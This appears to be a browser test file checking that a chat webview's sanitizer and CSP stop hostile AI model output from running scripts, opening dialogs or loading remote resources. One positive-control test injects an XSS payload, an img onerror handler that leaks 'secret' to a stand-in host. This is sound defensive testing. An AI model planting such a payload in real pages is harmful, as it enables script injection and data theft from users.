// Hostile model output rendered by the real bundle in Chromium: nothing may run and nothing may
// load. Checked twice: with the CSP the host sets, and without it (so the sanitizer alone holds).
import * as assert from 'node:assert/strict';
import { HOSTILE_PAYLOADS } from './hostilePayloads';
import { answer, state } from './fixtures';
import { inspect, settle } from './inspect';
import { closeBrowser, foreignRequests, openWebview, useWebviewPage, type WebviewPage } from './page';

async function look(p: WebviewPage) {
  const r = await inspect(p, '.markdown');
  return { ...r, answers: await p.page.locator('article.assistant').count() };
}

/** Every payload as one finished answer each. */
/** Answers per conversation drawn: fewer than the chat draws in full at the end of one (older answers are drawn light, as text). */
const BATCH = 10;

/** Shows the payloads as finished answers, a conversation of BATCH at a time, each drawn in full; `check` looks at each. */
async function renderAll(p: WebviewPage, check: (count: number) => Promise<void>): Promise<void> {
  for (let i = 0; i < HOSTILE_PAYLOADS.length; i += BATCH) {
    const batch = HOSTILE_PAYLOADS.slice(i, i + BATCH);
    await p.post({ type: 'state', state: state(batch.map((text, j) => answer(`a-${i + j}`, text))) });
    await settle(p);
    await check(batch.length);
  }
}

for (const variant of ['with the CSP', 'without a CSP (sanitizer alone)'] as const) {
  describe(`webview: hostile model output, ${variant}`, function () {
    this.timeout(60_000);
    const page = useWebviewPage({ noCsp: variant !== 'with the CSP' });
    let p: WebviewPage;
    beforeEach(() => {
      p = page();
    });

    it(`renders ${HOSTILE_PAYLOADS.length} finished answers without running or loading anything`, async () => {
      assert.ok(HOSTILE_PAYLOADS.length >= 100);
      let seen = 0;
      await renderAll(p, async (count) => {
        const r = await look(p);
        assert.equal(r.answers, count);
        assert.equal(await p.page.$$eval('.light-text', (e) => e.length), 0, 'every answer drawn in full, through the renderer');
        assert.deepEqual(r.bad, []);
        assert.equal(r.pwned, 0);
        seen += count;
      });
      assert.equal(seen, HOSTILE_PAYLOADS.length);
      assert.deepEqual(p.dialogs, []);
      assert.deepEqual(foreignRequests(p.requests), []);
    });

    it('streams every payload in small chunks into one answer without running or loading anything', async () => {
      await p.post({ type: 'state', state: state([answer('s-1', '', 'streaming')]) });
      const all = HOSTILE_PAYLOADS.join('\n\n');
      for (let i = 0; i < all.length; i += 97) {
        await p.post({ type: 'delta', messageId: 's-1', text: all.slice(i, i + 97) });
      }
      await settle(p);
      let r = await look(p);
      assert.deepEqual(r.bad, []);
      await p.post({ type: 'messageUpdated', message: answer('s-1', all, 'done') });
      await settle(p);
      r = await look(p);
      assert.deepEqual(r.bad, []);
      assert.equal(r.pwned, 0);
      assert.deepEqual(p.dialogs, []);
      assert.deepEqual(foreignRequests(p.requests), []);
    });

    it('clicking every link and image placeholder asks the host instead of navigating', async () => {
      const before = (await p.posted()).length;
      let clicked = 0;
      await renderAll(p, async () => {
        const clickable = await p.page.$$('.markdown a, .markdown button.remote-image');
        for (const c of clickable) await c.evaluate((e) => (e as HTMLElement).click());
        clicked += clickable.length;
        await settle(p);
      });
      assert.ok(clicked > 10, `expected links and placeholders, found ${clicked}`);
      const posted = (await p.posted()).slice(before) as { type: string; method?: string; params?: { url: string } }[];
      assert.ok(posted.length > 0 && posted.every((m) => m.type === 'request' && m.method === 'openLink'));
      for (const m of posted) assert.match(m.params!.url, /^(https?:|mailto:)/i);
      assert.equal(p.page.url(), 'https://webview.tokenhub.test/index.html');
      assert.equal((await look(p)).pwned, 0);
      assert.deepEqual(p.dialogs, []);
      assert.deepEqual(foreignRequests(p.requests), []);
    });
  });
}

describe('webview: the detectors above can see an attack', function () {
  this.timeout(30_000);
  after(closeBrowser);
  it('a payload injected without the renderer and without CSP runs and loads', async () => {
    const p = await openWebview({ noCsp: true });
    try {
      await p.page.evaluate(() => {
        const d = document.createElement('div');
        d.innerHTML = '<img src="https://evil.test/?q=secret" onerror="window.__pwned.push(1);alert(1)">';
        document.body.append(d);
      });
      await settle(p);
      assert.equal((await look(p)).pwned, 1);
      assert.equal(p.dialogs.length, 1);
      assert.ok(foreignRequests(p.requests).some((u) => u.startsWith('https://evil.test/')));
    } finally {
      await p.close();
    }
  });
});
